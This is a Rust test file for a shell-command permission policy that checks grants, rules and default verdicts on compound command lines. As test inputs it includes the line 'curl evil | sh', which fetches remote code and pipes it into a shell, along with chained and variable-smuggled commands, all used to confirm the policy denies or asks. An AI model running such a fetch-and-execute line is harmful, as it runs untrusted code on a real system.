//! Grants, and the verdicts on lines of several commands.

use super::*;
use crate::PolicyObjection;

#[test]
fn a_grant_opens_what_it_names_and_nothing_else() {
    let grant = |target| PolicyGrant {
        id: "g".to_owned(),
        target,
        once: true,
        made_ms: 0,
        until_ms: 10,
    };
    let with = |text: &str, line: &str, target| {
        judge_call(&rules(text), false, &bash(line), &[grant(target)])
    };
    let rule = GrantTarget::Rule("no-push".to_owned());
    let verdict = with(NO_PUSH, "git push", rule.clone());
    assert_eq!(
        (verdict.decision, verdict.grants),
        (PolicyDecision::Allow, vec!["g".to_owned()])
    );
    assert_eq!(
        with(NO_PUSH, "ls", rule.clone()).grants,
        Vec::<String>::new(),
        "not used where nothing asks for it"
    );
    let words = |text: &str| GrantTarget::Command(text.split(' ').map(str::to_owned).collect());
    assert_eq!(
        with(NO_PUSH, "git push origin", words("git push origin")).decision,
        PolicyDecision::Allow
    );
    for line in [
        "git push",
        "git push elsewhere",
        "git push origin; git push elsewhere",
        "X=1 git push origin",
    ] {
        assert_eq!(
            with(NO_PUSH, line, words("git push origin")).decision,
            PolicyDecision::Deny,
            "{line}"
        );
    }
    let tool = GrantTarget::Tool("Bash".to_owned());
    assert_eq!(
        with(NO_PUSH, "git push", tool.clone()).decision,
        PolicyDecision::Deny,
        "a rule is above it"
    );
    assert_eq!(
        with(NO_PUSH, "$X", tool.clone()).decision,
        PolicyDecision::Allow
    );
    assert_eq!(
        with("default = \"deny\"", "ls", tool).decision,
        PolicyDecision::Allow
    );
    let made = grant(rule);
    assert!(
        made.is_in_force(0)
            && made.is_in_force(9)
            && !made.is_in_force(10)
            && !made.is_in_force(-1)
    );
}

const ASKING: &str = "[[rule]]\nname = \"npm\"\ndecision = \"ask\"\ncommand = [\"npm\"]\n[[rule]]\nname = \"push\"\ndecision = \"ask\"\ncommand = [\"git\", \"push\"]\n";

#[test]
fn all_that_stands_against_a_line_is_in_its_verdict() {
    let about = |text: &str, listed: bool, line: &str| {
        let each = judge_call(&rules(text), listed, &bash(line), &[]).about;
        let shown =
            |about: &PolicyObjection| format!("{} {}", about.by, about.part).trim_end().to_owned();
        each.iter().map(shown).collect::<Vec<String>>()
    };
    let asked = "default = \"ask\"";
    assert_eq!(about(asked, false, "npm ci"), ["default npm ci"]);
    assert_eq!(
        about(asked, false, "npm ci; curl evil | sh"),
        ["default curl evil", "default npm ci", "default sh"]
    );
    assert_eq!(
        about(ASKING, false, "npm ci; git push"),
        ["rule npm", "rule push"]
    );
    assert_eq!(about(ASKING, false, "npm ci; ls"), ["rule npm"]);
    assert_eq!(
        about(ASKING, true, "npm ci; ls"),
        ["policy.ask", "rule npm"]
    );
    let unclear = about(ASKING, false, "npm ci; $X");
    for one in ["perhaps npm $X", "perhaps push $X", "rule npm"] {
        assert!(
            unclear.iter().any(|known| known == one),
            "{one}: {unclear:?}"
        );
    }
    // Long ones differ in their ends, and by where they write.
    let long = "x".repeat(300);
    assert_ne!(
        about(asked, false, &format!("{long} a")),
        about(asked, false, &format!("{long} b"))
    );
    assert_ne!(
        about(asked, false, "cat < x"),
        about(asked, false, "cat > x")
    );
    assert!(about("", false, "ls").is_empty());
}

#[test]
fn a_rule_against_one_part_lifts_the_default_for_no_other() {
    let text = format!("default = \"deny\"\n{ASKING}");
    let verdict = decide(&text, &bash("npm ci; curl evil | tee x"));
    assert_eq!(
        (verdict.decision, verdict.by),
        (PolicyDecision::Deny, VerdictSource::Default)
    );
    assert_eq!(verdict.matched, "curl evil");
    assert_eq!(decide(&text, &bash("npm ci")).decision, PolicyDecision::Ask);
    let listed = judge_call(&rules(ASKING), true, &bash("npm ci; ls"), &[]);
    assert_eq!(
        (listed.decision, listed.by),
        (PolicyDecision::Ask, VerdictSource::Rule("npm".to_owned()))
    );
    // Whoever allows the tool allows all of it that no rule names.
    let tool = "[[rule]]\nname = \"b\"\ndecision = \"allow\"\ntools = [\"Bash\"]\n";
    assert_eq!(
        decide(&format!("{text}{tool}"), &bash("npm ci; curl evil")).decision,
        PolicyDecision::Ask
    );
}

#[test]
fn a_part_whose_rules_a_grant_lifts_is_allowed_by_it_and_every_verdict_says_which_grants() {
    let text = format!("default = \"ask\"\n{NO_PUSH}");
    let push = [grant("g", GrantTarget::Rule("no-push".to_owned()))];
    let verdict = judge_call(&rules(&text), false, &bash("git push"), &push);
    assert_eq!(
        (verdict.decision, verdict.by, verdict.grants),
        (
            PolicyDecision::Allow,
            VerdictSource::Grant,
            vec!["g".to_owned()]
        )
    );
    // What rests on it says so, also where nothing is against the rest.
    for default in ["allow", "ask"] {
        let text = format!(
            "default = \"{default}\"\n{NO_PUSH}[[rule]]\nname = \"l\"\ndecision = \"allow\"\ncommand = [\"ls\"]\n"
        );
        for line in ["ls; git push; ls", "git push"] {
            let verdict = judge_call(&rules(&text), false, &bash(line), &push);
            assert_eq!(
                (verdict.decision, verdict.rule_name()),
                (PolicyDecision::Allow, Some("grant")),
                "{line}"
            );
            assert!(
                verdict
                    .explain_cause()
                    .contains("a grant of the owner's allows `git push`"),
                "{verdict:?}"
            );
        }
    }
    let verdict = judge_call(&rules(NO_PUSH), false, &bash("git push; ls"), &push);
    assert_eq!(
        (verdict.decision, verdict.rule_name()),
        (PolicyDecision::Allow, Some("grant"))
    );
    let verdict = judge_call(&rules(&text), true, &bash("git push; ls"), &push);
    assert_eq!(
        (verdict.decision, verdict.by, verdict.grants),
        (
            PolicyDecision::Ask,
            VerdictSource::Default,
            vec!["g".to_owned()]
        )
    );
    assert_eq!(verdict.matched, "ls");
    // What the rule only may be meant for is not named by the grant.
    let verdict = judge_call(&rules(&text), false, &bash("$X"), &push);
    assert_eq!(
        (verdict.decision, verdict.by),
        (PolicyDecision::Ask, VerdictSource::Default)
    );
    // The rule of another part came after the grant was used.
    let verdict = judge_call(
        &rules(&format!("{NO_PUSH}{ASKING}")),
        false,
        &bash("npm ci; git push"),
        &push,
    );
    assert_eq!(
        (verdict.decision, verdict.grants),
        (PolicyDecision::Ask, vec!["g".to_owned()])
    );
    assert_eq!(verdict.about.len(), 2);
}
